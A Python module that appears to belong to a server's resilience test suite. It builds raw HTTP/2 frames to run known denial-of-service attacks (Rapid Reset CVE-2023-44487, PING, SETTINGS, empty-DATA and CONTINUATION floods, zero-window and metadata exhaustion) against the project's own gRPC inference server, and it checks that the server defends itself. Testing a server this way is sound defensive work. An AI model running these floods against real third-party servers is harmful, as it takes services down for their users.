"""Hostile HTTP/2 and gRPC clients (issue 29): raw frames, written here byte by byte, so
that each attack is exactly what it says (a real gRPC client would refuse to send most).

Each function takes a ``Target`` and returns a short status: the gRPC code a call got, or
what the server did to the attacking connection (``GOAWAY ENHANCE_YOUR_CALM``). They join
the catalogue of ``milliserve.drills.tensor_attacks`` (``H2_ATTACKS``), so the same good HTTP and
gRPC clients run beside them and the same figures are recorded.
"""

from __future__ import annotations

import asyncio
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable

import grpc
import numpy as np

from milliserve.drills.attack_runner import Attack, Target, attack
from milliserve.protocol.proto import oip_pb2 as pb
from milliserve.server.h2.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)
from milliserve.server.h2.hpack_codec import HpackDecoder, literal

__all__ = ["H2_ATTACKS", "RawH2"]

_INFER = b"/inference.GRPCInferenceService/ModelInfer"
_GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 9: "COMPRESSION_ERROR", 0xB: "ENHANCE_YOUR_CALM"}


def _fraud_request(name: str = "fraud_mlp") -> bytes:
    msg = pb.ModelInferRequest(model_name=name)
    inp = msg.inputs.add(name="features", datatype="FP32")
    inp.shape.extend([1, 64])
    msg.raw_input_contents.append(np.zeros((1, 64), np.float32).tobytes())
    body: bytes = msg.SerializeToString()
    return b"\x00" + struct.pack(">L", len(body)) + body


class RawH2:
    """A client connection that writes whatever frames it is told to. It never acknowledges
    the server's SETTINGS unless ``ack`` is set."""

    def __init__(self, t: Target, settings: dict[int, int] | None = None, ack: bool = False) -> None:
        self.sock = socket.create_connection((t.host, t.grpc_port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        payload = b"".join(struct.pack(">HL", k, v) for k, v in (settings or {}).items())
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, payload) + (frame(SETTINGS, 1, 0) if ack else b""))
        self.next_id = 1
        self.buf = b""
        self.goaway: int | None = None
        self.goaway_debug = b""
        self.closed = False
        self.decoder = HpackDecoder()

    @staticmethod
    def head(path: bytes = _INFER, extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
        fields = (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b":authority", b"localhost"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
            *extra,
        )
        return b"".join(literal(k, v) for k, v in fields)

    def stream(self) -> int:
        sid = self.next_id
        self.next_id += 2
        return sid

    def send(self, data: bytes, timeout: float = 0.5) -> bool:
        """Write ``data``; False when the server stopped reading (or the connection ended),
        so that the caller goes and reads what the server said (a GOAWAY)."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except TimeoutError:
            return False
        except OSError:
            self.closed = True
            return False

    def read(self, timeout: float = 0.0) -> list[tuple[int, int, int, bytes]]:
        """The frames that arrived (waiting up to ``timeout`` for the first)."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                self.closed = True
            self.buf += chunk
        except (TimeoutError, BlockingIOError):
            pass
        except OSError:
            self.closed = True
        frames = []
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + n]
            self.buf = self.buf[9 + n :]
            if kind == GOAWAY:
                self.goaway = struct.unpack(">LL", payload[:8])[1]
                self.goaway_debug = payload[8:]
            frames.append((kind, flags, sid, payload))
        return frames

    def status_of(self, sid: int, timeout: float = 30.0) -> str:
        """The grpc-status the server answered stream ``sid`` with (or how it ended)."""
        end = time.monotonic() + timeout
        while time.monotonic() < end and not self.closed:
            for kind, _, got, payload in self.read(0.2):
                if kind == HEADERS:
                    headers = dict(self.decoder.decode(payload, 1 << 20))
                    if got == sid and b"grpc-status" in headers:
                        return _code(int(headers[b"grpc-status"]))[1].upper().replace(" ", "_")
                elif kind == RST_STREAM and got == sid:
                    return f"RST_STREAM {struct.unpack('>L', payload)[0]}"
        return self.ended()

    def ended(self) -> str:
        if self.goaway is not None:
            return f"GOAWAY {_GOAWAY_CODES.get(self.goaway, self.goaway)}"
        return "closed" if self.closed else "no answer"

    def flood(self, make: Callable[[], bytes], seconds: float = 10.0) -> str:
        """Write ``make()`` as fast as the socket takes it until the server sends GOAWAY or
        closes (``seconds`` at most), then how the connection ended; closes it."""
        end = time.monotonic() + seconds
        try:
            while time.monotonic() < end and self.goaway is None and not self.closed:
                if not self.send(make()):
                    break
                self.read()
            while self.goaway is None and not self.closed and time.monotonic() < end + 5:
                self.read(0.2)
            return self.ended()
        finally:
            self.close()

    def close(self) -> None:
        self.sock.close()


def _code(value: int) -> tuple[int, str]:
    found: tuple[int, str] = next(c.value for c in grpc.StatusCode if c.value[0] == value)
    return found


def _flood(
    t: Target, make: Callable[[RawH2], Callable[[], bytes]], seconds: float = 10.0, conns: int = 1
) -> str:
    """``conns`` connections, each flooding what ``make(connection)`` writes (see
    ``RawH2.flood``); how they ended, with their counts."""
    ends: Counter[str] = Counter()
    lock = threading.Lock()

    def one() -> None:
        c = RawH2(t, ack=True)
        ended = c.flood(make(c), seconds)
        with lock:
            ends[ended] += 1

    threads = [threading.Thread(target=one) for _ in range(conns)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    return " / ".join(f"{k}" + (f" x{v}" if v > 1 else "") for k, v in sorted(ends.items()))


def rapid_reset(t: Target) -> str:
    """CVE-2023-44487: 4 connections open ModelInfer streams (whole requests) and reset them
    at once, for up to 10 s: each connection gets GOAWAY ENHANCE_YOUR_CALM."""
    body = _fraud_request()

    def make(c: RawH2) -> Callable[[], bytes]:
        head = c.head()

        def batch() -> bytes:
            out = []
            for _ in range(100):
                sid = c.stream()
                out.append(
                    frame(HEADERS, END_HEADERS, sid, head)
                    + frame(DATA, END_STREAM, sid, body)
                    + frame(RST_STREAM, 0, sid, struct.pack(">L", 8))
                )
            return b"".join(out)

        return batch

    return _flood(t, make, conns=4)


def zero_window(t: Target) -> str:
    """40 connections with SETTINGS_INITIAL_WINDOW_SIZE=0 send 990 ModelInfer calls each and
    never open their window: answers cannot be sent. At most max_concurrent_streams per
    connection are taken (the rest refused); held 5 s, then the attacker leaves."""
    conns = []
    refused = 0
    body = _fraud_request()
    for _ in range(40):
        c = RawH2(t, settings={0x4: 0}, ack=True)
        head = c.head()
        out = []
        for _ in range(990):
            sid = c.stream()
            out.append(frame(HEADERS, END_HEADERS, sid, head) + frame(DATA, END_STREAM, sid, body))
        c.send(b"".join(out))
        conns.append(c)
    end = time.monotonic() + 5
    while time.monotonic() < end:
        for c in conns:
            for kind, _, _, payload in c.read():
                refused += kind == RST_STREAM and struct.unpack(">L", payload)[0] == 7
        time.sleep(0.1)
    for c in conns:
        c.close()
    return "streams past the limit refused" if refused else "nothing refused"


def _repeat(data: bytes) -> Callable[[RawH2], Callable[[], bytes]]:
    return lambda c: lambda: data


def ping_flood(t: Target) -> str:
    """PING frames, nothing else, as fast as they go (CVE-2019-9512)."""
    return _flood(t, _repeat(frame(PING, 0, 0, b"12345678") * 500))


def settings_flood(t: Target) -> str:
    """Empty SETTINGS frames, each of which asks for an acknowledgement (CVE-2019-9515)."""
    return _flood(t, _repeat(frame(SETTINGS, 0, 0) * 500))


def _stream_flood(t: Target, end_headers: bool, chunk: Callable[[int], bytes]) -> str:
    """Open a stream (its header block ended or not), then flood ``chunk(stream)``."""
    c = RawH2(t, ack=True)
    sid = c.stream()
    c.send(frame(HEADERS, END_HEADERS if end_headers else 0, sid, c.head()))
    data = chunk(sid)
    return c.flood(lambda: data)


def empty_frames_flood(t: Target) -> str:
    """Empty DATA frames on an open stream, that never end it (CVE-2019-9518)."""
    return _stream_flood(t, True, lambda sid: frame(DATA, 0, sid) * 500)


def tiny_frames_flood(t: Target) -> str:
    """One-byte DATA frames on an open stream: each costs a frame's parsing and nothing
    else (a flood of tiny frames holds the event loop as empty ones do)."""
    return _stream_flood(t, True, lambda sid: frame(DATA, 0, sid, b"\x00") * 2000)


def continuation_flood(t: Target) -> str:
    """A header block that never ends: CONTINUATION frames of 16 KB, without END_HEADERS
    (CVE-2024-27316)."""
    return _stream_flood(
        t, False, lambda sid: frame(CONTINUATION, 0, sid, literal(b"x-pad", b"a" * 16000)) * 16
    )


def metadata_flood_unacked(t: Target) -> str:
    """10,000 metadata entries on one call, from a client that never acknowledges the
    server's SETTINGS (so never agreed to its header limit)."""
    c = RawH2(t, ack=False)
    sid = c.stream()
    block = c.head(extra=tuple((f"x-m-{i}".encode(), b"v" * 8) for i in range(10_000)))
    step = 16000
    parts = [block[i : i + step] for i in range(0, len(block), step)]
    out = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, sid, parts[0])
    for i, part in enumerate(parts[1:], 1):
        out += frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, sid, part)
    c.send(out + frame(DATA, END_STREAM, sid, _fraud_request()))
    try:
        return c.status_of(sid)
    finally:
        c.close()


def _call_raw(t: Target, payload: bytes) -> str:
    with grpc.insecure_channel(f"{t.host}:{t.grpc_port}") as ch:
        call = ch.unary_unary(_INFER.decode())
        try:
            call(payload, timeout=60)
        except grpc.RpcError as exc:
            details = exc.details() or ""
            leak = "Error" in details or "Traceback" in details or "python" in details.lower()
            name: str = exc.code().name
            return name + (" (internals in the message)" if leak else "")
    return "OK"


def undecodable_unary(t: Target) -> str:
    """A ModelInfer whose bytes are no protobuf message at all."""
    return _call_raw(t, b"\xff\xff\xff\xff\x0f")


def undecodable_in_stream(t: Target) -> str:
    """good, undecodable bytes, good on one ModelStreamInfer: three answers, the middle
    one an error_message; 'OK' when the stream then ended on its own."""
    good = _fraud_request()[5:]

    def requests() -> object:
        yield good
        yield b"\xff\xff\xff\xff\x0f"
        yield good

    with grpc.insecure_channel(f"{t.host}:{t.grpc_port}") as ch:
        call = ch.stream_stream(
            "/inference.GRPCInferenceService/ModelStreamInfer",
            response_deserializer=pb.ModelStreamInferResponse.FromString,
        )
        try:
            answers = list(call(requests(), timeout=60))
        except grpc.RpcError as exc:
            return exc.code().name  # type: ignore[no-any-return]
    errors = sum(1 for a in answers if a.error_message)
    return "OK" if len(answers) == 3 and errors == 1 else f"answers={len(answers)} errors={errors}"


def honest_burst(t: Target) -> str:
    """4 channels with 990 concurrent ModelInfer calls each: queued (or refused with
    RESOURCE_EXHAUSTED), never cancelled at random."""
    payload = _fraud_request()[5:]

    async def run() -> Counter[str]:
        got: Counter[str] = Counter()
        channels = [grpc.aio.insecure_channel(f"{t.host}:{t.grpc_port}") for _ in range(4)]
        try:
            calls = [ch.unary_unary(_INFER.decode()) for ch in channels]

            async def one(i: int) -> None:
                try:
                    await calls[i % 4](payload, timeout=120)
                    got["OK"] += 1
                except grpc.aio.AioRpcError as exc:
                    got[exc.code().name] += 1

            await asyncio.gather(*(one(i) for i in range(4 * 990)))
        finally:
            for ch in channels:
                await ch.close()
        return got

    got = asyncio.run(run())
    return ", ".join(f"{k} x{v}" for k, v in sorted(got.items()))


def long_model_name(t: Target) -> str:
    """A ModelInfer for a model whose name is 100 KB long: NOT_FOUND, with the name cut in
    the message (not RESOURCE_EXHAUSTED from a grpc-message too large for the client)."""
    body = _fraud_request("m" * 100_000)[5:]
    return _call_raw(t, body)


_a = attack
_CALM = "GOAWAY ENHANCE_YOUR_CALM"
H2_ATTACKS: tuple[Attack, ...] = (
    _a("Rapid Reset: 4 connections open and reset streams for 10 s", rapid_reset, {f"{_CALM} x4"}),
    _a(
        "zero window: 40 connections x 990 calls whose answers cannot be sent",
        zero_window,
        {"streams past the limit refused"},
    ),
    _a("PING flood", ping_flood, {_CALM}),
    _a("SETTINGS flood", settings_flood, {_CALM}),
    _a("empty DATA frames flood", empty_frames_flood, {_CALM}),
    _a("CONTINUATION without end", continuation_flood, {_CALM}),
    _a("one-byte DATA frames flood", tiny_frames_flood, {_CALM}),
    _a(
        "10,000 metadata entries, SETTINGS never acknowledged", metadata_flood_unacked, {"RESOURCE_EXHAUSTED"}
    ),
    _a("undecodable ModelInfer message (gRPC)", undecodable_unary, {"INVALID_ARGUMENT"}),
    _a("stream: good, undecodable, good (gRPC)", undecodable_in_stream, {"OK"}),
    _a("honest burst: 4 channels x 990 concurrent calls", honest_burst, {"OK x3960"}),
    _a("model name of 100 KB (gRPC)", long_model_name, {"NOT_FOUND"}),
)
